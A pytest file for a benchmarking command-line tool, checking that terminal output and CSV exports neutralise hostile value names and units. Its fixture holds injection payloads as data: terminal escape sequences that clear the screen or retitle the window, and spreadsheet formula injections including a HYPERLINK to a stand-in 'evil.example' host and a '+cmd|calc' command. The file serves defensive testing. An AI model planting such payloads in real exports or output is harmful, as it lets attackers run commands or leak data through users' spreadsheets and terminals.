"""Stored text from a test's output (value names, units) never sends a control
character to the terminal, and a CSV export never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from perfwalk.cli import exits
from perfwalk.cli.main import main
from perfwalk.report.export import csv_cell
from tests.fixtures.synthetic_repo import KnownHistory

# a value whose unit clears the screen, one whose name sets the terminal's title,
# one with a C1 control (CSI), and formulas for a spreadsheet, one value negative;
# each repetition adds 1, so the levels have some noise
HOSTILE_BENCH = r"""v=$(( $(cat value.txt) + ${PERFWALK_REPETITION:-0} ))
printf 'VALUE %s \033[2Jms \033]0;pwned\007lat\n' "$v"
printf 'VALUE %s ms c1\302\2332J\n' "$v"
printf 'VALUE -%s ms =HYPERLINK("http://evil.example/"&A1;"x")\n' "$v"
printf 'VALUE %s @SUM(1+1) +cmd|calc\n' "$v"
"""

CONFIG = """\
[project]
repo = "{repo}"
[build]
steps = ["sh build.sh"]
[run]
step = "commit/2"
repetitions = 2
[[test]]
name = "hostile"
command = "sh {bench}"
parser = "value"
"""

RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture
def walked(tmp_path: Path, known_values_repo_copy: KnownHistory) -> Path:
    bench = tmp_path / "hostile.sh"
    bench.write_text(HOSTILE_BENCH, encoding="utf-8")
    path = tmp_path / "perfwalk.toml"
    path.write_text(CONFIG.format(repo=known_values_repo_copy.path, bench=bench))
    assert main(["run", "-c", str(path)]) in (0, 1)
    return path


def test_show_changes_status_and_list_show_control_characters_visibly(
    walked: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["show", "-c", str(walked)]) == 0
    show = capsys.readouterr()
    # found, or not, or undecided (a short walk on a busy machine may see too little)
    assert main(["changes", "-c", str(walked)]) in (exits.OK, exits.FOUND, exits.UNDECIDED)
    changes = capsys.readouterr()
    for command in ("status", "list"):
        assert main([command, "-c", str(walked)]) == 0
    rest = capsys.readouterr()
    for printed in (show, changes, rest):
        assert RAW_CONTROL.search(printed.out + printed.err) is None
    for text in (show.out, changes.out):
        assert r"hostile.\x1b]0;pwned\x07lat [\x1b[2Jms]" in text
        assert r"hostile.c1\x9b2J [ms]" in text
    assert "hostile.=HYPERLINK" in changes.out  # found as a change, shown as text


def test_csv_cells_are_text_for_a_spreadsheet_and_numbers_stay_numbers(
    walked: Path, tmp_path: Path
) -> None:
    out = tmp_path / "values.csv"
    assert main(["export", "-c", str(walked), "--format", "csv", "-o", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    assert RAW_CONTROL.search(text) is None
    rows = list(csv.DictReader(io.StringIO(text)))
    names = {row["name"] for row in rows}
    assert names == {
        r"\x1b]0;pwned\x07lat",
        r"c1\x9b2J",
        """'=HYPERLINK("http://evil.example/"&A1;"x")""",
        "'+cmd|calc",
    }
    units = {row["unit"] for row in rows}
    assert units == {r"\x1b[2Jms", "ms", "'@SUM(1+1)"}
    negative = [row for row in rows if row["name"].startswith("'=")]
    assert negative
    assert all(-132.0 <= float(row["value"]) <= -100.0 for row in negative)
    assert all(row["value"].startswith("-") for row in negative)
    gnuplot = tmp_path / "values.dat"
    assert main(["export", "-c", str(walked), "--format", "gnuplot", "-o", str(gnuplot)]) == 0
    assert RAW_CONTROL.search(gnuplot.read_text(encoding="utf-8")) is None


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", r"\x0d=1"),  # the CR itself is shown, so nothing starts a formula
        ("a\x1b[31mb", r"a\x1b[31mb"),
        ("plain", "plain"),
        (-3.5, -3.5),
        (7, 7),
    ],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_an_error_naming_hostile_text_shows_its_control_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "no\x1b]0;title\x07file"
    assert main(["compare", str(missing), str(missing)]) == 2
    err = capsys.readouterr().err
    assert RAW_CONTROL.search(err) is None
    assert r"no\x1b]0;title\x07file: no such file" in err
